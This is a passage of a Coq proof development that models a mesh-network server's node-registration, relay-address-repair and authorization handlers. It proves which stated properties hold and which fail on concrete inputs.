  head (updated (trace (run env (updateNode r) w))) = Some (node, patch).
Proof.
  intros Hn Hp Hr.
  unfold updateNode. step. step. by_answer Hn. step. by_answer Hp.
  step. by_answer Hr. step. step. read. reflexivity.
Qed.

(** ** Registration: the access-key gate and the traffic keys (C5, C8) *)

Section Registration.
Context {W : Type}.
Variable env : Env W.
Variable r : Request.
Variables (draft : Node) (network settings : Network) (valid : bool).
Variables (skey : option string) (keyErr : error).

Local Abbreviation networkName := (Get (Vars r) "network").

(** The request is on an existing network, its body decodes to [draft],
    and the two network lookups succeed. *)
Hypothesis network_found :
  forall w, (env _ (NetworkExists networkName) w).1 = (true, None).
Hypothesis body_decoded : forall w, (env _ DecodeNode w).1 = (draft, None).
Hypothesis network_read :
  forall n w, (env _ (GetNetworkByNode n) w).1 = (network, None).
Hypothesis settings_read :
  forall w, (env _ (GetNetworkSettings networkName) w).1 = (settings, None).
(** What the access-key registry and the traffic-key store answer. *)
Hypothesis key_checked :
  forall w, (env _ (IsKeyValid networkName (AccessKey_ draft)) w).1 = valid.
Hypothesis server_key :
  forall w, (env _ RetrievePublicTrafficKey w).1 = (skey, keyErr).

Lemma createNode_to_gate (w : W) :
  exists w1 pre,
    trace (run env (createNode r) w) =
      pre ++ trace (run env
        (match access_key_gate valid network (draft_on_network r draft settings) with
         | None => call (ReturnErrorResponse key_invalid_response)
         | Some node => createNode_register None node
         end) w1)
    /\ created pre = [] /\ error_responses pre = [] /\ spawned pre = [].
Proof.
  unfold createNode. step. step. by_answer network_found.
  step. by_answer body_decoded.
  step. by_answer (network_read (set_Network networkName draft)).
  step. cbn [Network_ set_Network] in *. by_answer settings_read.
  step. cbn [AccessKey_ set_NetworkSettings set_Network] in *.
  by_answer key_checked.
  eexists w5, [_; _; _; _; _; _]. split; [reflexivity |]. read. done.
Qed.

Lemma createNode_register_present (err : error) (node : Node) (w : W) :
  keyErr = None -> skey <> None -> Mine (TrafficKeys_ node) <> None ->
  let o := run env (createNode_register err node) w in
  created (trace o) = [registered_node skey node].
Proof.
  intros Hk Hs Hm. unfold createNode_register, registered_node.
  step. by_answer server_key. subst keyErr. destruct skey as [key |]; [| congruence].
  destruct (Mine (TrafficKeys_ node)) as [mine |] eqn:Hmine; [| congruence].
  tidy. step. destruct x as [node' err'].
  destruct err' as [msg |]; tidy.
  - step. read. done.
  - step. destruct x as [peerUpdate err''].
    destruct err'' as [msg |]; tidy.
    + rewrite run_bind. rewrite run_call. tidy.
      destruct (env _ (IsEmptyRecord _) w2) as [empty w3]. tidy.
      destruct empty; tidy.
      * step. step. step. unfold runForceServerUpdate. step. read. done.
      * step. read. done.
    + rewrite run_bind. change (mret true) with (@Ret bool true).
      rewrite run_ret. tidy.
      step. step. step. unfold runForceServerUpdate. step. read. done.
Qed.

Lemma createNode_register_absent (err : error) (node : Node) (w : W) :
  keyErr <> None \/ skey = None \/ Mine (TrafficKeys_ node) = None ->
  let o := run env (createNode_register err node) w in
  trace o =
    [ Ev RetrievePublicTrafficKey (skey, keyErr);
      Ev (ReturnErrorResponse (formatError err "internal")) tt ].
Proof.
  intros Habs. unfold createNode_register. step. by_answer server_key.
  destruct keyErr as [msg |]; tidy; [by step |].
  destruct skey as [key |]; tidy; [| by step].
  destruct (Mine (TrafficKeys_ node)) as [mine |]; tidy; [| by step].
  destruct Habs as [? | [? | ?]]; congruence.
Qed.

(** C5, as the code has it.  On an existing network, with a body that
    decodes and network lookups that succeed: a valid access key, with both
    traffic keys present, hands the node to persistence with the pending
    flag as the request body has it; an invalid key on a network that
    allows manual signup, with both traffic keys present, hands it over
    with the pending flag set; an invalid key on any other network is
    answered with the unauthorized error, and nothing is handed to
    persistence or propagated. *)
Theorem createNode_access_key_gate (w : W) :
  let o := run env (createNode r) w in
  if valid then
    keys_present draft skey keyErr ->
    created (trace o) = [registered_node skey (draft_on_network r draft settings)] /\
    IsPending (registered_node skey (draft_on_network r draft settings)) = IsPending draft
  else if String.eqb (AllowManualSignUp network) "yes" then
    keys_present draft skey keyErr ->
    created (trace o) =
      [registered_node skey
         (set_IsPending "yes" (draft_on_network r draft settings))] /\
    IsPending (registered_node skey
                 (set_IsPending "yes" (draft_on_network r draft settings)))
    = "yes"
  else
    created (trace o) = [] /\ spawned (trace o) = [] /\
    error_responses (trace o) = [key_invalid_response] /\
    reports key_invalid_response Unauthorized = true.
Proof.
  destruct (createNode_to_gate w) as (w1 & pre & Ht & Hc & He & Hs).
  cbv zeta. rewrite Ht. unfold access_key_gate.
  destruct valid; tidy.
  - intros (Hk & Hsk & Hm). split; [| reflexivity].
    unfold created in *. rewrite omap_app, Hc.
    apply (createNode_register_present None (draft_on_network r draft settings) w1 Hk Hsk Hm).
  - destruct (String.eqb (AllowManualSignUp network) "yes").
    + intros (Hk & Hsk & Hm). split; [| reflexivity].
      unfold created in *. rewrite omap_app, Hc.
      apply (createNode_register_present None
               (set_IsPending "yes" (draft_on_network r draft settings)) w1 Hk Hsk Hm).
    + step. unfold key_invalid_response. read. rewrite Hc, He, Hs. done.
Qed.

(** C8, as the code has it.  When the request is through the access-key
    gate and a traffic key is missing (the node's own, or the server's, or
    the server's could not be read), the handler answers through
    [formatError] with the "internal" tag, which is the internal class and
    not the invalid-state one, and stops: nothing is handed to persistence
    and nothing is propagated. *)
Theorem createNode_traffic_key_absent (w : W) :
  valid = true \/ AllowManualSignUp network = "yes" ->
  key_absent draft skey keyErr ->
  let o := run env (createNode r) w in
  created (trace o) = [] /\ spawned (trace o) = [] /\
  exists e,
    error_responses (trace o) = [formatError e "internal"] /\
    reports (formatError e "internal") Internal = true /\
    reports (formatError e "internal") InvalidState = false.
Proof.
  intros Hgate Habs.
  destruct (createNode_to_gate w) as (w1 & pre & Ht & Hc & He & Hs).
  cbv zeta. rewrite Ht.
  assert (Hg : exists node,
             access_key_gate valid network (draft_on_network r draft settings) = Some node /\
             Mine (TrafficKeys_ node) = Mine (TrafficKeys_ draft)).
  { unfold access_key_gate. destruct valid; tidy.
    - by exists (draft_on_network r draft settings).
    - destruct Hgate as [? | Hm]; [done |]. rewrite Hm.
      by exists (set_IsPending "yes" (draft_on_network r draft settings)). }
  destruct Hg as (node & -> & Hmine).
  rewrite (createNode_register_absent None node w1)
    by (rewrite Hmine; exact Habs).
  read. rewrite Hc, He, Hs. repeat split. by exists None.
Qed.
End Registration.

Lemma createNode_access_key_gate_witness :
  let draft := joining_node "badkey" "" (Some "nodepk") in
  let o := run (env_register draft "yes" (Some "serverpk"))
             (createNode register_request) tt in
  created (trace o) =
    [registered_node (Some "serverpk")
       (set_IsPending "yes" (draft_on_network register_request draft (net1 "yes")))]
  /\ IsPending (registered_node (Some "serverpk")
       (set_IsPending "yes" (draft_on_network register_request draft (net1 "yes"))))
     = "yes".
Proof.
  refine (createNode_access_key_gate
            (env_register (joining_node "badkey" "" (Some "nodepk")) "yes"
               (Some "serverpk"))
            register_request (joining_node "badkey" "" (Some "nodepk"))
            (net1 "yes") (net1 "yes") false (Some "serverpk") None
            _ _ _ _ _ _ tt _).
  - intros w. reflexivity.
  - intros w. reflexivity.
  - intros n w. reflexivity.
  - intros w. reflexivity.
  - intros w. reflexivity.
  - intros w. reflexivity.
  - repeat split; discriminate.
Defined.

(** C5 as stated fails here: the access key is valid, the body itself sets
    the pending flag, and the node handed to persistence is pending. *)
Lemma createNode_valid_key_pending_body :
  let draft := joining_node "goodkey" "yes" (Some "nodepk") in
  let env := env_register draft "no" (Some "serverpk") in
  let o := run env (createNode register_request) tt in
  (env _ (IsKeyValid "net1" (AccessKey_ draft)) tt).1 = true /\
  error_responses (trace o) = [] /\
  (exists n, created (trace o) = [n] /\ IsPending n = "yes") /\
  ~ (exists n, In n (created (trace o)) /\ IsPending n <> "yes").
Proof.
  vm_compute. split; [reflexivity |]. split; [reflexivity |]. split.
  - eexists. split; reflexivity.
  - intros (n & [<- | []] & Hp). by apply Hp.
Qed.

Lemma createNode_traffic_key_absent_witness :
  let draft := joining_node "goodkey" "" None in
  let o := run (env_register draft "no" (Some "serverpk"))
             (createNode register_request) tt in
  created (trace o) = [] /\ spawned (trace o) = [] /\
  exists e,
    error_responses (trace o) = [formatError e "internal"] /\
    reports (formatError e "internal") Internal = true /\
    reports (formatError e "internal") InvalidState = false.
Proof.
  refine (createNode_traffic_key_absent
            (env_register (joining_node "goodkey" "" None) "no" (Some "serverpk"))
            register_request (joining_node "goodkey" "" None)
            (net1 "no") (net1 "no") true (Some "serverpk") None
            _ _ _ _ _ _ tt _ _).
  - intros w. reflexivity.
  - intros w. reflexivity.
  - intros n w. reflexivity.
  - intros w. reflexivity.
  - intros w. reflexivity.
  - intros w. reflexivity.
  - left. reflexivity.
  - right. right. reflexivity.
Defined.

(** C8 as stated fails here: the node's own traffic key is absent, and the
    one error written is not of the invalid-state class. *)
Lemma createNode_traffic_key_absent_not_invalid_state :
  let draft := joining_node "goodkey" "" None in
  let o := run (env_register draft "no" (Some "serverpk"))
             (createNode register_request) tt in
  Mine (TrafficKeys_ draft) = None /\
  error_responses (trace o) = [formatError None "internal"] /\
  ~ (exists e, In e (error_responses (trace o)) /\ reports e InvalidState = true).
Proof.
  vm_compute. split; [reflexivity |]. split; [reflexivity |].
  intros (e & [<- | []] & Hr). discriminate Hr.
Qed.

(** ** Relay-address repair (C3, C4)

    The memory model of [updateRelay] computes [repair_list]. *)

Lemma splice_list_length key value idx :
  forall l, length (splice_list key value idx l) = length l.
Proof.
  induction idx as [| i idx IH]; intros l; [done |].
  cbn [splice_list]. rewrite IH.
  destruct (l !! i) as [ip |] eqn:Hi; [| done].
  destruct (String.eqb ip key); [| done].
  pose proof (lookup_lt_Some _ _ _ Hi) as Hlt.
  rewrite length_app, length_delete by eauto. cbn. lia.
Qed.

Lemma write_at_length (a xs : list string) (pos : nat) :
  pos + length xs <= length a -> length (write_at a pos xs) = length a.
Proof.
  intros H. unfold write_at.
  rewrite !length_app, length_take, length_drop. lia.
Qed.

(** Cutting entry [i] out of the first [n] cells in place and writing [v]
    into cell [n - 1]. *)
Lemma write_at_splice (a : list string) (n i : nat) (v : string) :
  i < n -> n <= length a ->
  take n (write_at (write_at a i (take (n - (i + 1)) (drop (i + 1) a)))
                   (n - 1) [v])
  = delete i (take n a) ++ [v].
Proof.
  intros Hi Hn.
  assert (Ha : a = take n a ++ drop n a) by (by rewrite take_drop).
  set (l := take n a) in *. set (rest := drop n a) in *.
  assert (Hl : length l = n) by (subst l; rewrite length_take; lia).
  assert (Hx : take (n - (i + 1)) (drop (i + 1) a) = drop (i + 1) l).
  { rewrite Ha, drop_app_le by lia.
    rewrite take_app_le by (rewrite length_drop; lia).
    apply take_ge. rewrite length_drop. lia. }
  rewrite Hx.
  assert (H1 : write_at a i (drop (i + 1) l) = delete i l ++ drop (n - 1) a).
  { unfold write_at. rewrite length_drop, Hl.
    replace (i + (n - (i + 1))) with (n - 1) by lia.
    rewrite delete_take_drop, <- app_assoc.
    replace (S i) with (i + 1) by lia.
    f_equal. rewrite Ha at 1. apply take_app_le. lia. }
  rewrite H1. unfold write_at.
  assert (Hd : length (delete i l) = n - 1)
    by (rewrite length_delete, Hl by (apply lookup_lt_is_Some; lia); lia).
  rewrite (take_app_length' (delete i l)) by done.
  rewrite app_assoc. apply take_app_length'.
  rewrite length_app, Hd. cbn. lia.
Qed.

Lemma holds_found (node : Node) (spare : nat) :
  holds (found_relay (Some (node, spare))).1 node (RelayAddrs node)
        (length (RelayAddrs node) + spare).
Proof.
  exists (RelayAddrs node ++ replicate spare ""). cbn. repeat split.
  - rewrite length_app, length_replicate. done.
  - apply take_app_length.
Qed.

Lemma holds_deref m node l c :
  holds m node l c -> deref m (Some 0) = Some (set_RelayAddrs l node).
Proof.
  intros (a & Ha & Ho & Hc & Ht). unfold deref, elems.
  cbn [mbind option_bind]. rewrite Ho.
  cbn [mbind option_bind lookup list_lookup snd fst s_ptr s_off s_len].
  rewrite Ha. cbn [mbind option_bind lookup list_lookup]. by rewrite drop_0, Ht.
Qed.

Lemma splice_range_holds key value node c idx :
  forall m l,
    holds m node l c ->
    Forall (fun i => i < length l) idx ->
    exists m',
      splice_range (Some 0) (Some 0) key value (mkSlice 0 0 (length l) c) idx m
      = Some m' /\
      holds m' node (splice_list key value idx l) c.
Proof.
  induction idx as [| i idx IH]; intros m l Hm Hidx.
  - exists m. done.
  - apply Forall_cons in Hidx as [Hi Hidx].
    destruct Hm as (a & Ha & Ho & Hc & Ht).
    assert (Hle : length l <= length a).
    { rewrite <- Ht at 1. rewrite length_take. lia. }
    assert (Hip : a !! i = l !! i) by (by rewrite <- Ht, lookup_take_lt).
    destruct (lookup_lt_is_Some_2 l i Hi) as [ip Hl].
    cbn [splice_range splice_list]. unfold index. cbn [s_len s_ptr s_off].
    destruct (Nat.ltb_spec i (length l)) as [_ | ?]; [| lia].
    rewrite Ha. cbn [lookup list_lookup mbind option_bind].
    rewrite Nat.add_0_l, Hip, Hl. cbn [mbind option_bind].
    destruct (String.eqb ip key).
    + set (n := length l) in *.
      set (a1 := write_at a i (take (n - (i + 1)) (drop (i + 1) a))).
      set (a2 := write_at a1 (n - 1) [value]).
      assert (Hlen1 : length a1 = length a).
      { apply write_at_length. rewrite length_take, length_drop. lia. }
      assert (Hlen2 : length a2 = length a).
      { unfold a2. rewrite write_at_length; [done |]. cbn. lia. }
      assert (Hn' : length (delete i l ++ [value]) = n).
      { rewrite length_app, length_delete by eauto. cbn. lia. }
      assert (Hstep :
        (d ← load_RelayAddrs m (Some 0);
         a0 ← slice_to d i;
         s ← load_RelayAddrs m (Some 0);
         b ← slice_from s (i + 1);
         '(r, m0) ← append m a0 b;
         m1 ← store_RelayAddrs m0 (Some 0) r;
         d' ← load_RelayAddrs m1 (Some 0);
         '(r', m2) ← append_elems m1 d' [value];
         store_RelayAddrs m2 (Some 0) r')
        = Some (mkMem [a2] [(node, mkSlice 0 0 n c)])).
      { unfold load_RelayAddrs, store_RelayAddrs, slice_to, slice_from, append,
          append_elems, elems.
        rewrite Ho. cbn [mbind option_bind lookup list_lookup snd fst s_len
                         s_cap s_ptr s_off].
        destruct (Nat.leb_spec i c) as [_ | ?]; [| lia].
        cbn [mbind option_bind s_len s_cap s_ptr s_off].
        destruct (Nat.leb_spec (i + 1) n) as [_ | ?]; [| lia].
        cbn [mbind option_bind s_len s_cap s_ptr s_off arrays objs].
        rewrite Ha. cbn [mbind option_bind lookup list_lookup].
        rewrite Nat.add_0_l.
        assert (Hxs : length (take (n - (i + 1)) (drop (i + 1) a)) = n - (i + 1))
          by (rewrite length_take, length_drop; lia).
        rewrite Hxs.
        destruct (Nat.leb_spec (i + (n - (i + 1))) c) as [_ | ?]; [| lia].
        cbn [mbind option_bind lookup list_lookup arrays objs snd fst s_len
             s_cap s_ptr s_off insert list_insert length].
        replace (i + (n - (i + 1)) + 1) with n by lia.
        destruct (Nat.leb_spec n c) as [_ | ?]; [| lia].
        cbn [mbind option_bind lookup list_lookup arrays objs snd fst s_len
             s_cap s_ptr s_off insert list_insert length].
        rewrite Nat.add_0_l.
        replace (i + (n - (i + 1))) with (n - 1) by lia.
        reflexivity. }
      rewrite Hstep. cbn [mbind option_bind].
      replace (mkSlice 0 0 n c) with (mkSlice 0 0 (length (delete i l ++ [value])) c)
        by (by rewrite Hn').
      apply IH.
      * exists a2. rewrite Hn'. repeat split; [lia |].
        unfold a2, a1. rewrite write_at_splice by lia. by rewrite Ht.
      * rewrite Hn'. exact Hidx.
    + apply IH; [| done]. by exists a.
Qed.

Lemma splice_loop_holds key value m node l c :
  holds m node l c ->
  exists m',
    splice_loop (Some 0) (Some 0) key value m = Some m' /\
    holds m' node (splice_list key value (seq 0 (length l)) l) c.
Proof.
  intros Hm. unfold splice_loop, load_RelayAddrs.
  destruct Hm as (a & Ha & Ho & Hc & Ht) eqn:E. rewrite Ho.
  cbn [mbind option_bind lookup list_lookup snd s_len].
  apply splice_range_holds; [by exists a |].
  apply Forall_forall. intros i Hi. apply elem_of_seq in Hi. lia.
Qed.

(** The memory model of [updateRelay] never panics on a relay that was found
    and leaves in the relay's list what [repair_list] computes, whatever
    spare capacity the backing array has. *)
Lemma updateRelay_mem_refines oldnode newnode m node l c :
  holds m node l c ->
  exists m',
    updateRelay_mem (Some 0) (Some 0) oldnode newnode m = Some m' /\
    holds m' node (repair_list oldnode newnode l) c.
Proof.
  intros Hm. unfold updateRelay_mem, repair_list.
  destruct (negb (String.eqb (Address oldnode) (Address newnode))).
  - destruct (splice_loop_holds (Address oldnode) (Address newnode) m node l c Hm)
      as (m1 & -> & Hm1).
    cbn [mbind option_bind].
    destruct (negb (String.eqb (Address6 oldnode) (Address6 newnode))).
    + apply splice_loop_holds. exact Hm1.
    + exists m1. done.
  - cbn [mbind option_bind].
    destruct (negb (String.eqb (Address6 oldnode) (Address6 newnode))).
    + apply splice_loop_holds. exact Hm.
    + exists m. done.
Qed.

(** X20.  The handler-level statement of the refinement: when a relay is found,
    [updateRelay] does not panic and hands the relay to persistence once,
    as both records (the two pointers name one object), with the list
    [repair_list] computes from the list the relay had, whatever spare
    capacity the backing array of that list has. *)
Lemma updateRelay_run {W : Type} (env : Env W) (oldnode newnode relay : Node)
    (spare : nat) (w : W) :
  (forall w', (env _ (FindRelay oldnode) w').1 = Some (relay, spare)) ->
  let o := run env (updateRelay oldnode newnode) w in
  let repaired :=
    set_RelayAddrs (repair_list oldnode newnode (RelayAddrs relay)) relay in
  result o = Some tt /\ updated (trace o) = [(repaired, repaired)].
Proof.
  intros Hf. unfold updateRelay. step. by_answer Hf.
  destruct (updateRelay_mem_refines oldnode newnode _ _ _ _
              (holds_found relay spare)) as (m' & Hu & Hm').
  cbn [found_relay] in *. cbn [fst] in Hu. rewrite Hu.
  rewrite (holds_deref _ _ _ _ Hm'). step. read. done.
Qed.

(** *** What the repair does on well-formed lists *)

Lemma splice_list_app key value idx1 idx2 l :
  splice_list key value (idx1 ++ idx2) l =
  splice_list key value idx2 (splice_list key value idx1 l).
Proof.
  revert l. induction idx1 as [| i idx1 IH]; intros l; [done |].
  cbn [app splice_list]. apply IH.
Qed.

Lemma delete_middle (l1 l2 : list string) (x : string) :
  delete (length l1) (l1 ++ x :: l2) = l1 ++ l2.
Proof. induction l1 as [| y l1 IH]; [done |]. simpl. by f_equal. Qed.

(** No entry equals [key]: the loop changes nothing. *)
Lemma splice_list_absent key value idx l :
  key ∉ l -> splice_list key value idx l = l.
Proof.
  intros Hk. induction idx as [| i idx IH]; [done |].
  cbn [splice_list]. destruct (l !! i) as [ip |] eqn:Hi; [| done].
  destruct (String.eqb_spec ip key) as [-> | _]; [| done].
  destruct Hk. by apply list_elem_of_lookup_2 in Hi.
Qed.

(** [value] is the last entry and no entry before it equals [key]: the loop
    changes nothing, also when [value] is [key] itself. *)
Lemma splice_list_fixed key value idx l0 :
  key ∉ l0 -> splice_list key value idx (l0 ++ [value]) = l0 ++ [value].
Proof.
  intros Hk. induction idx as [| i idx IH]; [done |].
  cbn [splice_list].
  destruct ((l0 ++ [value]) !! i) as [ip |] eqn:Hi; [| done].
  destruct (String.eqb_spec ip key) as [-> | _]; [| done].
  apply lookup_app_Some in Hi as [Hi | [Hge Hi]].
  - destruct Hk. by apply list_elem_of_lookup_2 in Hi.
  - apply list_lookup_singleton_Some in Hi as [Hi <-].
    replace i with (length l0) by lia.
    rewrite delete_middle, app_nil_r. exact IH.
Qed.

(** Exactly one entry equals [key]: it is cut out and [value] is appended. *)
Lemma splice_list_single key value l1 l2 :
  key ∉ l1 -> key ∉ l2 ->
  splice_list key value (seq 0 (length (l1 ++ key :: l2))) (l1 ++ key :: l2)
  = l1 ++ l2 ++ [value].
Proof.
  intros H1 H2. rewrite length_app. cbn [length].
  replace (length l1 + S (length l2)) with (length l1 + (1 + length l2)) by lia.
  rewrite seq_app, splice_list_app.
  assert (Hpre : forall idx,
            Forall (fun i => i < length l1) idx ->
            splice_list key value idx (l1 ++ key :: l2) = l1 ++ key :: l2).
  { induction idx as [| i idx IH]; intros Hall; [done |].
    apply Forall_cons in Hall as [Hi Hall]. cbn [splice_list].
    rewrite lookup_app_l by done.
    destruct (l1 !! i) as [ip |] eqn:Hl; [| by apply IH].
    destruct (String.eqb_spec ip key) as [-> | _]; [| by apply IH].
    destruct H1. by apply list_elem_of_lookup_2 in Hl. }
  rewrite Hpre
    by (apply Forall_forall; intros i Hi; apply elem_of_seq in Hi; lia).
  rewrite seq_app, splice_list_app. cbn [seq splice_list].
  rewrite Nat.add_0_l, list_lookup_middle by done.
  rewrite String.eqb_refl, delete_middle.
  rewrite <- app_assoc, (app_assoc l1 l2 [value]).
  apply splice_list_fixed. rewrite elem_of_app. tauto.
Qed.

Lemma at_most_once (key : string) (l : list string) :
  NoDup l ->
  (key ∉ l) \/
  exists l1 l2, l = l1 ++ key :: l2 /\ (key ∉ l1) /\ (key ∉ l2).
Proof.
  intros Hnd. destruct (decide (key ∈ l)) as [Hin | Hnin]; [right | by left].
  apply list_elem_of_split in Hin as (l1 & l2 & ->). exists l1, l2.
  apply NoDup_app in Hnd as (_ & Hd & Hnd2).
  apply NoDup_cons in Hnd2 as [Hk2 _].
  split; [done |]. split; [| done].
  intros Hk1. apply (Hd key Hk1). by left.
Qed.

(** X21.  On a list without repeated entries the repair is idempotent. *)
Lemma repair_list_idempotent_NoDup (oldnode newnode : Node) (l : list string) :
  NoDup l ->
  repair_list oldnode newnode (repair_list oldnode newnode l)
  = repair_list oldnode newnode l.
Proof.
  intros Hnd. unfold repair_list.
  destruct (at_most_once (Address oldnode) l Hnd)
    as [Hk | (l1 & l2 & -> & H1 & H2)].
  - rewrite !(splice_list_absent _ _ _ l Hk).
    destruct (negb _), (negb _);
      rewrite ?(splice_list_absent _ _ _ l Hk); reflexivity.
  - destruct (String.eqb_spec (Address oldnode) (Address newnode)) as [He | Hne];
      cbn [negb].
    + destruct (negb (String.eqb (Address6 oldnode) (Address6 newnode)));
        [| reflexivity].
      rewrite splice_list_single by done.
      rewrite app_assoc. apply splice_list_fixed. rewrite elem_of_app. tauto.
    + rewrite splice_list_single by done.
      assert (Hk : Address oldnode ∉ l1 ++ l2 ++ [Address newnode]).
      { rewrite !elem_of_app, list_elem_of_singleton. tauto. }
      rewrite !(splice_list_absent _ _ _ _ Hk).
      destruct (negb _); rewrite ?(splice_list_absent _ _ _ _ Hk); reflexivity.
Qed.

(** X22.  The IPv4 address of a relayed node changes, its IPv6 address does not,
    and the relay's list has no repeated entry, holds the old address and
    not the new one: afterwards the list holds the new address, once, and
    not the old one. *)
Lemma repair_list_ipv4_change (oldnode newnode : Node) (l : list string) :
  Address oldnode <> Address newnode ->
  Address6 oldnode = Address6 newnode ->
  NoDup l -> Address oldnode ∈ l -> Address newnode ∉ l ->
  let l' := repair_list oldnode newnode l in
  NoDup l' /\ (Address newnode ∈ l') /\ (Address oldnode ∉ l') /\
  length l' = length l.
Proof.
  intros Hne H6 Hnd Hold Hnew. unfold repair_list.
  apply String.eqb_neq in Hne as Hb. rewrite Hb, H6, String.eqb_refl. cbn [negb].
  destruct (at_most_once (Address oldnode) l Hnd)
    as [Hk | (l1 & l2 & -> & H1 & H2)]; [done |].
  rewrite splice_list_single by done.
  apply NoDup_app in Hnd as (Hn1 & Hd & Hn2).
  apply NoDup_cons in Hn2 as [_ Hn2].
  rewrite elem_of_app, elem_of_cons in Hnew.
  repeat split.
  - apply NoDup_app. split; [done |]. split.
    + intros x Hx. rewrite elem_of_app, list_elem_of_singleton.
      intros [Hx2 | ->]; [| tauto]. apply (Hd x Hx). by right.
    + apply NoDup_app. split; [done |]. split; [| apply NoDup_singleton].
      intros x Hx. rewrite list_elem_of_singleton. intros ->. tauto.
  - rewrite !elem_of_app, list_elem_of_singleton. tauto.
  - rewrite !elem_of_app, list_elem_of_singleton. tauto.
  - rewrite !length_app. cbn. lia.
Qed.

(** *** The repair at concrete relays *)

(** The scenario of the spec: the relay fronts 10.0.0.2 and 10.0.0.3, and
    the first node moves to 10.0.0.9. *)
Example repaired_scenario :
  repaired 1 (relayed_node "10.0.0.2" "") (relayed_node "10.0.0.9" "")
           ["10.0.0.2"; "10.0.0.3"]
  = ["10.0.0.3"; "10.0.0.9"].
Proof. vm_compute. reflexivity. Qed.

(** C3, the code at the failing input: a relayed node with the addresses
    10.0.0.2 and fd00::2, both in the relay's list, changes its IPv6 address
    to fd00::9.  The IPv6 loop compares the entries with the node's IPv4
    address: the entry cut out is 10.0.0.2, which did not change, and the
    previous IPv6 address stays in the list.  When the list holds the IPv6
    address only, the repair changes nothing. *)
Theorem updateRelay_ipv6_branch_keys_on_ipv4 :
  let oldnode := relayed_node "10.0.0.2" "fd00::2" in
  let newnode := relayed_node "10.0.0.2" "fd00::9" in
  repaired 1 oldnode newnode ["10.0.0.2"; "fd00::2"] = ["fd00::2"; "fd00::9"] /\
  repaired 1 oldnode newnode ["fd00::2"] = ["fd00::2"] /\
  repair_list oldnode newnode ["10.0.0.2"; "fd00::2"] = ["fd00::2"; "fd00::9"].
Proof. vm_compute. repeat split. Qed.

(** An entry right behind a cut-out entry is skipped by the loop, so of two
    adjacent entries equal to the old address one stays. *)
Example repaired_adjacent_entries :
  repaired 1 (relayed_node "10.0.0.2" "") (relayed_node "10.0.0.9" "")
           ["10.0.0.2"; "10.0.0.2"; "10.0.0.3"]
  = ["10.0.0.2"; "10.0.0.3"; "10.0.0.9"].
Proof. vm_compute. reflexivity. Qed.

(** C4, the code at the failing input: the relay's list holds the old
    address twice and the node moves from 10.0.0.2 to 10.0.0.9.  One repair
    leaves one old entry; a second repair of the same transition replaces it
    and the new address is in the list twice. *)
Theorem updateRelay_twice_differs_from_once :
  let oldnode := relayed_node "10.0.0.2" "" in
  let newnode := relayed_node "10.0.0.9" "" in
  let addrs := ["10.0.0.2"; "10.0.0.2"] in
  repaired 1 oldnode newnode addrs = ["10.0.0.2"; "10.0.0.9"] /\
  repaired 2 oldnode newnode addrs = ["10.0.0.9"; "10.0.0.9"] /\
  repair_list oldnode newnode (repair_list oldnode newnode addrs)
  <> repair_list oldnode newnode addrs.
Proof. vm_compute. repeat split. discriminate. Qed.

(** * Further properties of the handlers *)

Ltac read_more :=
  unfold node_lookups, all_nodes_listings, success_responses, relay_updates,
    relay_lookups, node_updates, status_codes in *;
  read;
  cbn [on_GetNodeByID on_GetAllNodes on_ReturnSuccessResponse on_UpdateRelay
       on_FindRelay on_NodeUpdate on_WriteHeader].

(** Lighter proof steps for case analyses over every answer: the next call
    is run and its answer named without an equation, the goal alone is
    simplified, and traces are read by computation. *)
Ltac tidy_goal :=
  cbn [fst snd result final trace is_nil nil_key negb andb orb].

Ltac next :=
  first [ rewrite run_call_bind | rewrite run_call__bind
        | rewrite run_call | rewrite run_call_ | rewrite run_ret
        | rewrite run_skip ];
  try match goal with
  | |- context [?env ?X ?c ?w] =>
      match type of env with
      | Env _ => destruct (env X c w) as [? ?]
      end
  end;
  repeat match goal with u : unit |- _ => destruct u end;
  tidy_goal.

Ltac cases :=
  repeat first
    [ next
    | match goal with
      | |- context [let '(_, _) := ?x in _] => is_var x; destruct x
      | |- context [is_nil ?e] => is_var e; destruct e
      | |- context [nil_key ?e] => destruct e
      | |- context [if ?b then _ else _] =>
          lazymatch type of b with
          | bool => destruct b
          end
      | |- context [match ?x with Some _ => _ | None => _ end] =>
          lazymatch x with
          | result _ => fail
          | _ => destruct x
          end
      end; tidy_goal ].

(** The same over programs that bind a sub-program. *)
Ltac cases_bind := repeat (progress (rewrite ?run_bind; cases)).

Ltac compute_traces :=
  cbv [served error_responses credential_checks created deleted updated
       spawned peer_updates reloads encoded network_lookups node_lookups
       all_nodes_listings success_responses relay_updates relay_lookups
       node_updates status_codes omap list_omap app
       on_ServeNext on_ReturnErrorResponse on_credential_check on_CreateNode
       on_DeleteNodeByID on_UpdateNode on_Go on_PublishPeerUpdate
       on_ServerUpdate on_Encode on_GetNetworkNodes is_credential_check
       on_GetNodeByID on_GetAllNodes on_ReturnSuccessResponse on_UpdateRelay
       on_FindRelay on_NodeUpdate on_WriteHeader].

(** ** The authorization middleware *)

Lemma passes_quiet {W X : Type} (c : Call X) (x : X) res (fin : W) tr r' :
  on_ServeNext (Ev c x) = None -> on_ReturnErrorResponse (Ev c x) = None ->
  passes (mkOutcome res fin tr) r' ->
  passes (mkOutcome res fin (Ev c x :: tr)) r'.
Proof.
  unfold passes, served, error_responses. cbn [result trace].
  intros H1 H2 (Hr & Hs & He). rewrite !omap_cons_ev, H1, H2. done.
Qed.

Lemma rejects_quiet {W X : Type} (c : Call X) (x : X) res (fin : W) tr e :
  on_ServeNext (Ev c x) = None -> on_ReturnErrorResponse (Ev c x) = None ->
  rejects (mkOutcome res fin tr) e ->
  rejects (mkOutcome res fin (Ev c x :: tr)) e.
Proof.
  unfold rejects, served, error_responses. cbn [result trace].
  intros H1 H2 (Hr & Hs & He). rewrite !omap_cons_ev, H1, H2. done.
Qed.

Lemma one_outcome_quiet {W X : Type} (c : Call X) (x : X) res (fin : W) tr :
  on_ServeNext (Ev c x) = None -> on_ReturnErrorResponse (Ev c x) = None ->
  one_outcome (mkOutcome res fin tr) ->
  one_outcome (mkOutcome res fin (Ev c x :: tr)).
Proof.
  intros H1 H2 [(r' & H) | (e & H & Hc)];
    [left; exists r' | right; exists e; split; [| done]].
  - by apply passes_quiet.
  - by apply rejects_quiet.
Qed.

Lemma passes_prefix {W : Type} (pre : list Event) res (fin : W) tr r' :
  served pre = [] -> error_responses pre = [] ->
  passes (mkOutcome res fin tr) r' -> passes (mkOutcome res fin (pre ++ tr)) r'.
Proof.
  unfold passes, served, error_responses. cbn [result trace].
  intros H1 H2 (Hr & Hs & He). rewrite !omap_app, H1, H2. done.
Qed.

